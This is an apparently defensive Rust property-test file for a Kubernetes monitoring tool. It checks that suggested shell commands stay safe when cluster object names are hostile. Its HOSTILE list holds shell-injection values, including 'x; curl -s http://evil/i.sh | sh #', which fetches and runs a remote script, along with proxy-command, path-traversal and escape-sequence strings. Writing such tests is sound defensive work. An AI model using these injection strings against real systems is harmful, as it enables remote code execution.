//! Commands to paste: whatever the names of a cluster are, a shell reads each command as the words
//! that the program meant, and runs nothing else.

#![allow(clippy::unwrap_used, missing_docs)]

mod hostile_cluster;
mod outputs;
mod shells;
mod split;

use k8s_monitor::model::{Action, ShellCommand};
use k8s_monitor::report::Incident;
use proptest::prelude::*;

use crate::support::property::cases;
use hostile_cluster::{NAMES, incidents};
use outputs::{FORMS, Form, commands_in};
use split::split;

/// Texts that do harm where a shell, Markdown, HTML or Slack reads them as more than text.
pub const HOSTILE: &[&str] = &[
    "",
    " ",
    "-A",
    "--server=https://evil.example",
    "-oProxyCommand=id",
    "x; curl -s http://evil/i.sh | sh #",
    "x && curl -s http://evil/i.sh | sh",
    "x || id",
    "x & id",
    "x | sh",
    "x > /etc/passwd",
    "x < /dev/zero",
    "$(id)",
    "`id`",
    "${IFS}id",
    "$HOME",
    "' ; id ; '",
    "'; id #",
    "\\'; id #",
    "\"; id #",
    "a\\",
    "\\",
    "!!",
    "!id",
    "~root",
    "=ls",
    "{a,b}",
    "*",
    "?",
    "[a-z]",
    "#x",
    "%self",
    "a\nid\n",
    "a\r\nid",
    "a\tb",
    "a\u{0}b",
    "a\u{1b}[2Jb",
    "a\u{1b}]0;x\u{7}b",
    "a\u{200b}b",
    "a\u{202e}b",
    "a\u{2028}id",
    "a\u{a0}id",
    "a\u{3164}b",
    "аdmin",
    "```\nid\n```",
    "</code></pre><script>id</script>",
    "<!channel>",
    "@here",
    "../../etc/passwd",
    "+main",
    "main:other",
    "a b",
    "it's",
    "R&D/$HOME (x)",
    "-",
    "--",
    ".",
    "..",
];

/// A name as the API server, Git or a person may let it through.
fn name() -> impl Strategy<Value = String> {
    let hostile = prop::sample::select(HOSTILE);
    prop_oneof![
        2 => "[a-z][a-z0-9-]{0,12}[a-z0-9]",
        3 => hostile.clone().prop_map(str::to_owned),
        2 => ("[a-z]{1,4}", hostile).prop_map(|(start, rest)| start + rest),
        1 => "[ -~]{0,30}",
        1 => "\\PC{0,20}",
        1 => "[a-z]{240,500}",
    ]
}

/// The commands that the program means, by their text.
fn intended(incidents: &[Incident]) -> Vec<&ShellCommand> {
    let actions = incidents.iter().flat_map(|incident| &incident.actions);
    actions
        .filter_map(|action| action.command.as_ref())
        .collect()
}

#[track_caller]
fn is_read_as_meant(command: &ShellCommand) {
    let read = split(command);
    assert_eq!(read.as_deref(), Some(command.argvs()), "{command}");
    for argv in command.argvs() {
        let program = argv[0].as_str();
        assert!(
            ["kubectl", "git", "argocd", "ssh", "k8s-monitor"].contains(&program),
            "{command}"
        );
    }
    assert_eq!(
        ShellCommand::parse(command).as_ref(),
        Some(command),
        "{command}"
    );
}

fn holds_for(names: &[String]) {
    let incidents = incidents(names);
    let intended = intended(&incidents);
    for command in &intended {
        is_read_as_meant(command);
    }
    let mut texts: Vec<&str> = intended.iter().map(|command| command.as_str()).collect();
    texts.sort_unstable();
    texts.dedup();
    for form in FORMS {
        let shown = commands_in(&incidents, form, &texts);
        match form {
            Form::Report(_) => assert_eq!(shown, texts, "{form:?}"),
            // A message has fewer steps, each whole.
            Form::Slack | Form::PlainMessage => {
                assert!(shown.iter().all(|c| texts.contains(&&**c)), "{shown:#?}");
                assert!(texts.is_empty() || !shown.is_empty());
            }
        }
    }
}

proptest! {
    #![proptest_config(cases(32))]

    #[test]
    fn every_command_of_a_hostile_cluster_is_read_as_meant(
        names in prop::collection::vec(name(), NAMES),
    ) {
        holds_for(&names);
    }
}

/// Each hostile text in all places at once.
#[test]
fn one_hostile_text_everywhere() {
    for text in HOSTILE {
        holds_for(&vec![(*text).to_owned(); NAMES]);
    }
}

/// The property is not empty: with ordinary names most steps have a command.
#[test]
fn ordinary_names_give_commands() {
    let names: Vec<_> = (0..NAMES).map(|at| format!("name-{at}")).collect();
    let incidents = incidents(&names);
    let actions: Vec<&Action> = incidents.iter().flat_map(|i| &i.actions).collect();
    let with = actions
        .iter()
        .filter(|action| action.command.is_some())
        .count();
    assert_eq!(with, actions.len(), "{actions:#?}");
    assert!(with > 15, "{with}");
    holds_for(&names);
}

/// The API server only checks that the name of an owner is not empty.
#[test]
fn an_owner_that_a_shell_would_run_gives_no_command_and_says_why() {
    let mut names: Vec<_> = (0..NAMES).map(|at| format!("name-{at}")).collect();
    names[hostile_cluster::OWNER] = "x; curl -s http://evil/i.sh | sh #".to_owned();
    let incidents = incidents(&names);
    let own = incidents
        .iter()
        .find(|i| i.root_cause.resource.name.contains("curl"));
    let actions = &own.unwrap().actions;
    let refused = actions
        .iter()
        .find(|action| action.command.is_none())
        .unwrap();
    assert!(
        refused
            .title
            .contains("(no command: the name of the object has characters"),
        "{actions:?}"
    );
    let commands = intended(&incidents);
    assert!(commands.iter().all(|command| !command.contains("curl")));
}
